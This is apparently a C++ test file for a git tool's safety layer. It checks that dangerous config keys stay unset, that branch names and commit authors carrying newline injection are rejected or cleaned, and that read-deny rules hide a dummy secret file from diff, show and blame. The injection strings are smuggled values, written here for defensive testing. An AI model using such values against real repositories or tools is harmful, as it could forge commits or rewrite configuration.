  EXPECT_EQ(git("config --get-regexp '^(core\\.(fsmonitor|hookspath|sshcommand)|filter\\.)'"), "");
  for (const std::string bad : {"x\ny", "x]\n[core]", "-x", "x y"})
    fails(git::branch, {{"action", "create"}, {"name", bad}}, error_code::kInvalidParams);
  EXPECT_EQ(sh("git config --list").rc, 0);
}

TEST_F(GitSafety, CommitAuthorsCannotAddHeaders) {
  // A newline in a name would end the author line and start a header (a
  // second parent here); git drops newlines from identities, so do we.
  put("a", "x\n");
  must("git add a");
  make_twin();
  const std::string name = "Evil\nparent 0000000000000000000000000000000000000000";
  ok(git::commit, {{"message", "m"}, {"author", {{"name", name}, {"email", "e@x\n"}}}});
  in_twin("git commit -q -m m --author=\"$(printf 'Evil\\nparent 0000000000000000000000000000000000000000 <e@x>')\"");
  expect_twin_state();
  EXPECT_EQ(git("rev-list --parents -1 HEAD").size(), 81u);  // one parent
  EXPECT_EQ(sh("git fsck --strict --no-dangling").rc, 0);
}

// ---- 9. Read deny rules and multi-file results ------------------------------

git::Policy deny_reading(std::vector<std::string> paths) {
  git::Policy p;
  p.read_denied = [paths](std::string_view rel) {
    for (const auto& d : paths)
      if (rel == d) return true;
    return false;
  };
  return p;
}

class GitReadDeny : public GitSafety {
 protected:
  void SetUp() override {
    GitSafety::SetUp();
    put("secret.env", "TOKEN=hunter2\n");
    put("public.txt", "hello\n");
    commit_all("files");
    put("secret.env", "TOKEN=correcthorse\n");
    put("public.txt", "hello world\n");
  }
};

TEST_F(GitReadDeny, DiffLeavesOutDeniedFilesAndSaysSo) {
  const json open = ok(git::diff, json::object());
  ASSERT_TRUE(contains(open["text"], "correcthorse"));  // no deny: git's output
  set_policy(deny_reading({"secret.env"}));
  for (const json& params :
       {json::object(), json{{"stat", true}}, json{{"nameOnly", true}}, json{{"target", {{"from", "HEAD~1"}}}}}) {
    const json out = ok(git::diff, params);
    const std::string text = out["text"];
    EXPECT_FALSE(contains(text, "hunter2")) << params.dump() << text;
    EXPECT_FALSE(contains(text, "correcthorse")) << params.dump() << text;
    EXPECT_FALSE(contains(text, "secret.env")) << params.dump() << text;
    EXPECT_TRUE(contains(text, "public.txt")) << params.dump() << text;
    for (const auto& f : out["files"]) EXPECT_NE(f["path"], "secret.env");
    EXPECT_TRUE(contains(out.value("note", ""), "secret.env")) << out.dump();
    EXPECT_TRUE(contains(out.value("note", ""), "Read deny")) << out.dump();
  }
  must("git add -A");
  const json staged = ok(git::diff, {{"target", "staged"}});
  EXPECT_FALSE(contains(staged["text"], "correcthorse"));
  EXPECT_TRUE(contains(staged["text"], "public.txt"));
  const json trees = ok(git::diff, {{"target", {{"from", "HEAD~1"}, {"to", "HEAD"}}}});
  EXPECT_FALSE(contains(trees["text"], "hunter2"));
}

TEST_F(GitReadDeny, RenamesOfDeniedFilesAreLeftOutWhole) {
  must("git checkout -q -- . && git mv secret.env renamed.env && git commit -qm rename");
  set_policy(deny_reading({"secret.env"}));
  for (const json& params : {json{{"target", {{"from", "HEAD~1"}, {"to", "HEAD"}}}}, json{{"rev", "HEAD"}}}) {
    const json out = params.contains("rev") ? ok(git::show, params) : ok(git::diff, params);
    EXPECT_FALSE(contains(out["text"], "secret.env")) << out.dump();
    EXPECT_FALSE(contains(out["text"], "renamed.env")) << out.dump();
    EXPECT_TRUE(contains(out.value("note", ""), "secret.env")) << out.dump();
  }
  // The new name denied: the same.
  set_policy(deny_reading({"renamed.env"}));
  const json out = ok(git::show, {{"rev", "HEAD"}});
  EXPECT_FALSE(contains(out["text"], "hunter2")) << out.dump();
  EXPECT_FALSE(contains(out["text"], "secret.env")) << out.dump();
}

TEST_F(GitReadDeny, ShowLeavesOutDeniedFiles) {
  set_policy(deny_reading({"secret.env"}));
  const json out = ok(git::show, {{"rev", "HEAD"}});
  EXPECT_FALSE(contains(out["text"], "hunter2")) << out.dump();
  EXPECT_TRUE(contains(out["text"], "public.txt")) << out.dump();
  EXPECT_TRUE(contains(out["text"], "Author:")) << out.dump();
  EXPECT_TRUE(contains(out.value("note", ""), "secret.env")) << out.dump();
}

TEST_F(GitReadDeny, BlameAndShowOfADeniedFileAreRefused) {
  set_policy(deny_reading({"secret.env"}));
  std::string msg = fails(git::blame, {{"path", "secret.env"}}, error_code::kPermissionDenied);
  EXPECT_TRUE(contains(msg, "secret.env")) << msg;
  msg = fails(git::show, {{"rev", "HEAD"}, {"path", "secret.env"}}, error_code::kPermissionDenied);
  EXPECT_TRUE(contains(msg, "secret.env")) << msg;
  // Through a symlinked directory: judged where it leads.
  must("mkdir vault && cp secret.env vault/ && git add vault && git commit -qm vault && ln -s vault v");
  set_policy(deny_reading({"vault/secret.env"}));
  msg = fails(git::blame, {{"path", "v/secret.env"}}, error_code::kPermissionDenied);
  EXPECT_TRUE(contains(msg, "vault/secret.env")) << msg;
  set_policy(deny_reading({"secret.env"}));
  // Names are not content: status and a tree listing still show it.
  const json status = ok(git::status, json::object());
  EXPECT_TRUE(contains(status.dump(), "secret.env"));
  const json tree = ok(git::show, {{"rev", "HEAD"}, {"path", ""}});
  EXPECT_TRUE(contains(tree["text"], "secret.env"));
}

}  // namespace
}  // namespace icotes
